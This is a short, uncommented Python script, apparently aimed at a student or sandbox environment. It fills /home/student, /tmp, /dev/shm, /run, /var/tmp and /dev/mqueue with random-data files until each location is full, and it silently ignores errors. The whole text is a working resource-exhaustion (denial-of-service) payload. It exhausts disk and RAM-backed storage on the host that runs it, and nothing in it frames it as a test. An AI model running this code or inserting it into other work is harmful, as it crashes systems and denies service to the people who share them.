import os as _os

for _folder in ("/home/student", "/tmp", "/dev/shm", "/run", "/var/tmp", "/dev/mqueue"):
    try:
        for _number in range(8):
            with open(f"{_folder}/filler-{_number}", "wb", buffering=0) as _file:
                while _file.write(_os.urandom(1 << 16)):
                    pass
    except OSError:
        continue
